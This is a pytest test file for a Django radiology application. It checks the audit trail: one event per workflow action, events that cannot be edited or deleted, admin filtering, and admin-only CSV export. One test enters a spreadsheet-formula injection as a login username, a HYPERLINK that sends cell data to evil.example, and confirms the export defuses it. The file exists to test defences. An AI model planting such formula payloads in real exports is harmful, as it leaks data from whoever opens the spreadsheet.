"""The audit trail: a walk through the whole workflow leaves exactly one event per action, with who, what,
where and from which address; admins can read, filter and export it but never change or delete it."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import pytest
from django.db.models import Max, Model
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from cases.audit import audit_record
from cases.audit_export import COLUMNS, audit_events_csv, audit_export_action
from cases.models import ApiToken, AuditEvent, Image, Site, Study, User
from inference.models import Prediction
from inference.services import prediction_run
from tests.conftest import otp_session_verify
from tests.dicom_factory import make_dicom

pytestmark = pytest.mark.django_db

PASSWORD = "correct-horse-battery"  # tests/conftest.py's users
TECH_IP, RAD_IP, ADMIN_IP, API_IP, STRANGER_IP = "10.0.0.11", "10.0.0.12", "10.0.0.13", "10.0.0.14", "203.0.113.9"

Seen = tuple[str, int | None, str, str, str, int | None, str | None]


def seen(events: list[AuditEvent]) -> list[Seen]:
    return [(e.action, e.user_id, e.username, e.object_type, e.object_id, e.site_id, e.ip_address) for e in events]


def event(
    action: str, user: User | None, obj: Model | None = None, site: Site | None = None, ip: str | None = None, **kw
) -> Seen:
    username = kw.get("username", user.username if user else "")
    return (
        action,
        user.pk if user else None,
        username,
        type(obj).__name__ if obj is not None else "",
        str(obj.pk) if obj is not None else "",
        site.pk if site else None,
        ip,
    )


def events_of(step: Callable[[], object]) -> list[Seen]:
    """The audit events ``step`` left, oldest first."""
    before = AuditEvent.objects.aggregate(last=Max("pk"))["last"] or 0
    result = step()
    status = getattr(result, "status_code", 200)
    assert status < 500, getattr(result, "content", b"")[:300]
    return seen(list(AuditEvent.objects.filter(pk__gt=before).order_by("pk")))


def login(client: Client, username: str, password: str = PASSWORD):
    return client.post(reverse("login"), {"username": username, "password": password})


@pytest.fixture
def superuser(admin_user) -> User:
    admin_user.is_superuser = True  # as demo_data makes the admin
    admin_user.save()
    return admin_user


def test_it_leaves_exactly_one_event_per_action_through_the_workflow(
    active_model, demo_site, tech, rad, superuser
) -> None:
    techs, rads, admins = Client(REMOTE_ADDR=TECH_IP), Client(REMOTE_ADDR=RAD_IP), Client(REMOTE_ADDR=ADMIN_IP)

    # A technician signs in, uploads on the page, lists studies, opens the study and downloads its file
    assert events_of(lambda: login(techs, "tech")) == [event("login", tech, ip=TECH_IP)]
    chest = io.BytesIO(make_dicom(8, patient_id="AUD-1", patient_name="Audit^Walk"))
    chest.name = "chest.dcm"
    upload = events_of(lambda: techs.post(reverse("upload_files"), {"files": [chest], "priority": "urgent"}))
    image = Image.objects.get()
    study = image.study
    assert upload == [event("upload", tech, image, demo_site, TECH_IP)]
    assert events_of(lambda: techs.get(reverse("studies"))) == [event("list_studies", tech, ip=TECH_IP)]
    opened = events_of(lambda: techs.get(reverse("study_detail", args=[study.pk])))
    assert opened == [event("view_study", tech, study, demo_site, TECH_IP)]
    download = events_of(lambda: techs.get(reverse("image_file", args=[image.pk])))
    assert download == [event("download_image", tech, image, demo_site, TECH_IP)]

    # The AI runs (the real model, in this process): a system step, with no user and no address
    prediction = Prediction.objects.get()
    assert events_of(lambda: prediction_run(prediction_id=prediction.pk)) == [
        event("prediction", None, prediction, demo_site)
    ]
    prediction.refresh_from_db()
    assert prediction.status == "succeeded" and prediction.worker_host
    study.refresh_from_db()
    finding = "pneumonia" if study.ai_flagged else "no_pneumonia"

    # A radiologist signs in, opens the study, whose page claims it, signs and amends
    assert events_of(lambda: login(rads, "rad")) == [event("login", rad, ip=RAD_IP)]
    opened = events_of(lambda: rads.get(reverse("study_detail", args=[study.pk])))
    assert opened == [event("view_study", rad, study, demo_site, RAD_IP)]
    claimed = events_of(lambda: rads.post(reverse("study_claim", args=[study.pk])))
    assert claimed == [event("claim", rad, study, demo_site, RAD_IP)]
    signed = events_of(lambda: rads.post(reverse("study_sign", args=[study.pk]), {"finding": finding}))
    review = study.reviews.get()
    assert signed == [event("sign", rad, review, demo_site, RAD_IP)]
    amend = {"finding": finding, "amendment_reason": "Compared with the prior film", "amends_version": 1}
    amended = events_of(lambda: rads.post(reverse("study_amend", args=[study.pk]), amend))
    assert amended == [event("amend", rad, study.reviews.get(version=2), demo_site, RAD_IP)]

    # An admin signs in and corrects the patient's demographics in the admin
    assert events_of(lambda: login(admins, "admin")) == [event("login", superuser, ip=ADMIN_IP)]
    otp_session_verify(admins, superuser)  # and its second factor (tests/cases/test_otp.py audits that step)
    patient = study.patient
    form = {"site": demo_site.pk, "patient_id": patient.patient_id, "name": "Walk, Audit J", "birth_date": ""}
    form |= {"sex": "F", "demographics_conflict": ""}
    corrected = events_of(lambda: admins.post(reverse("admin:cases_patient_change", args=[patient.pk]), form))
    assert corrected == [event("patient_correct", superuser, patient, demo_site, ADMIN_IP)]

    # The radiologist signs in to the API for a token and reads the study there
    api = APIClient(REMOTE_ADDR=API_IP)
    credentials = {"username": "rad", "password": PASSWORD}
    token_step = events_of(lambda: api.post(reverse("api:token"), credentials, format="json"))
    token = ApiToken.objects.get(user=rad)
    assert token_step == [event("api_token_create", rad, token, ip=API_IP), event("login", rad, ip=API_IP)]
    key = api.post(reverse("api:token"), credentials, format="json").json()["token"]
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    viewed = events_of(lambda: api.get(reverse("api:study-detail", args=[study.pk])))
    assert viewed == [event("view_study", rad, study, demo_site, API_IP)]

    # Someone fails to sign in as the radiologist; the radiologist signs out
    failed = events_of(lambda: login(Client(REMOTE_ADDR=STRANGER_IP), "rad", "not-the-password"))
    assert failed == [event("login_failed", None, ip=STRANGER_IP, username="rad")]
    assert events_of(lambda: rads.post(reverse("logout"))) == [event("logout", rad, ip=RAD_IP)]

    # And the trail holds patient data nowhere in its details
    details = str(list(AuditEvent.objects.values_list("detail", flat=True)))
    assert "AUD-1" not in details and "Audit" not in details and "Walk" not in details


# --- Append-only in the admin ----------------------------------------------------------------------------


def test_it_lets_no_admin_change_or_delete_an_audit_event(client, superuser, rad, demo_site) -> None:
    # Given an event and a superuser in the admin
    kept = audit_record(action="view_study", user=rad, site=demo_site)
    client.force_login(superuser)
    change = reverse("admin:cases_auditevent_change", args=[kept.pk])
    delete = reverse("admin:cases_auditevent_delete", args=[kept.pk])
    changelist = reverse("admin:cases_auditevent_changelist")

    # When they try every way the admin offers to change, add or delete it
    view = client.get(change)
    attempts = {
        "change": client.post(change, {"action": "tampered", "username": "nobody"}).status_code,
        "delete page": client.get(delete).status_code,
        "delete": client.post(delete, {"post": "yes"}).status_code,
        "add": client.get(reverse("admin:cases_auditevent_add")).status_code,
    }
    bulk = client.post(changelist, {"action": "delete_selected", "_selected_action": [kept.pk], "post": "yes"})

    # Then the event is shown read-only and every attempt is refused
    assert view.status_code == 200 and b'name="_save"' not in view.content
    assert attempts == {"change": 403, "delete page": 403, "delete": 403, "add": 403}
    assert bulk.status_code in (200, 302)
    action_form = client.get(changelist).context["action_form"]
    assert action_form is None or "delete_selected" not in dict(action_form.fields["action"].choices)
    assert AuditEvent.objects.filter(pk=kept.pk, action="view_study", username="rad").exists()
    admin_model = client.get(changelist).context["cl"].model_admin
    request = RequestFactory().get(changelist)
    request.user = superuser
    assert not admin_model.has_change_permission(request, kept)
    assert not admin_model.has_delete_permission(request, kept)
    assert not admin_model.has_add_permission(request)


def test_it_refuses_to_change_or_delete_an_event_in_code(rad) -> None:
    kept = audit_record(action="view_study", user=rad)
    kept.action = "tampered"
    with pytest.raises(PermissionError):
        kept.save()
    with pytest.raises(PermissionError):
        kept.delete()
    assert AuditEvent.objects.get(pk=kept.pk).action == "view_study"


@pytest.fixture
def trail(demo_site, north_site, tech, rad, north_rad) -> dict[str, AuditEvent]:
    """Events of several actions, users and sites."""
    events = {
        "tech-upload": audit_record(action="upload", user=tech, site=demo_site),
        "rad-sign": audit_record(action="sign", user=rad, site=demo_site),
        "rad-view": audit_record(action="view_study", user=rad, site=demo_site),
        "north-sign": audit_record(action="sign", user=north_rad, site=north_site),
        "rad-sign-again": audit_record(action="sign", user=rad, site=demo_site),
    }
    return events


def test_it_filters_the_trail_in_the_admin(client, superuser, trail, demo_site, north_site) -> None:
    client.force_login(superuser)
    changelist = reverse("admin:cases_auditevent_changelist")

    def count(query: str) -> int:
        return client.get(f"{changelist}?{query}").context["cl"].result_count

    assert count("action__exact=sign") == 3
    assert count(f"action__exact=sign&site__id__exact={north_site.pk}") == 1
    assert count("q=rad2") == 1
    today = timezone.localdate()
    day = f"created_at__year={today.year}&created_at__month={today.month}&created_at__day={today.day}"
    assert count(day) == AuditEvent.objects.count() >= len(trail)


# --- CSV export -------------------------------------------------------------------------------------------


def _csv(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_it_exports_the_filtered_trail_as_csv_to_admins(client, superuser, trail, rad, demo_site) -> None:
    client.force_login(superuser)
    today = timezone.localdate()
    query = {"action": "sign", "user": "rad", "site": "DEMO", "date_from": today, "date_to": today}

    response = client.get(reverse("audit_export_csv"), query)

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = _csv(response)
    assert [row["action"] for row in rows] == ["sign", "sign"]
    assert {row["username"] for row in rows} == {"rad"} and {row["site"] for row in rows} == {"DEMO"}
    assert {row["object_id"] for row in rows} <= {""}
    assert list(rows[0]) == list(COLUMNS)
    by_id = _csv(client.get(reverse("audit_export_csv"), {"user": str(rad.pk), "site": str(demo_site.pk)}))
    assert len(by_id) == 3
    tomorrow = today + timedelta(days=1)
    assert _csv(client.get(reverse("audit_export_csv"), {"date_from": tomorrow})) == []
    exported = AuditEvent.objects.filter(action="audit_export", user=superuser)
    assert exported.count() == 3 and exported.order_by("pk").first().detail["count"] == 2


def test_it_keeps_the_csv_export_to_admins(client, tech, rad, trail) -> None:
    url = reverse("audit_export_csv")
    assert client.get(url).status_code == 302  # to the login page
    for user in (tech, rad):
        client.force_login(user)
        assert client.get(url).status_code == 403
    assert not AuditEvent.objects.filter(action="audit_export").exists()


def test_it_answers_invalid_export_filters_with_400(client, superuser) -> None:
    client.force_login(superuser)
    response = client.get(reverse("audit_export_csv"), {"date_from": "yesterday"})
    assert response.status_code == 400 and "date_from" in response.json()["errors"]


def test_it_defuses_spreadsheet_formulas_typed_as_usernames(client, superuser) -> None:
    login(Client(REMOTE_ADDR=STRANGER_IP), '=HYPERLINK("http://evil.example/?"&A1,"x")', "wrong-password-1")
    client.force_login(superuser)
    rows = _csv(client.get(reverse("audit_export_csv"), {"action": "login_failed"}))
    assert [row["username"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")']
    assert rows[0]["ip_address"] == STRANGER_IP


def test_it_exports_the_admins_selection_as_csv(superuser, trail) -> None:
    request = RequestFactory().get("/admin/cases/auditevent/")
    request.user = superuser
    selection = AuditEvent.objects.filter(pk__in=[trail["rad-sign"].pk, trail["north-sign"].pk])

    response = audit_export_action(None, request, selection)

    rows = _csv(response)
    assert [(row["username"], row["site"]) for row in rows] == [("rad", "DEMO"), ("rad2", "NORTH")]
    assert audit_events_csv(selection).splitlines()[0] == ",".join(COLUMNS)
    assert AuditEvent.objects.filter(action="audit_export", user=superuser).count() == 1


def test_it_exports_the_selection_from_the_admin_changelist(client, superuser, trail) -> None:
    from cases.admin import AuditEventAdmin

    if audit_export_action not in (AuditEventAdmin.actions or []):
        pytest.skip("cases/admin.py does not list audit_export_action in AuditEventAdmin.actions yet")
    client.force_login(superuser)
    selected = [trail["rad-sign"].pk, trail["tech-upload"].pk]
    changelist = reverse("admin:cases_auditevent_changelist")

    response = client.post(changelist, {"action": "audit_export_action", "_selected_action": selected})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert sorted(row["action"] for row in _csv(response)) == ["sign", "upload"]


def test_it_records_study_ids_not_patient_data_in_details(active_model, demo_site, tech) -> None:
    client = Client()
    client.force_login(tech)
    chest = io.BytesIO(make_dicom(patient_id="DETAIL-9", patient_name="Detail^Nine"))
    chest.name = "chest.dcm"
    client.post(reverse("upload_files"), {"files": [chest], "priority": "routine"})
    upload = AuditEvent.objects.get(action="upload")
    assert upload.detail == {"study_id": Study.objects.get().pk, "eligibility": "eligible"}
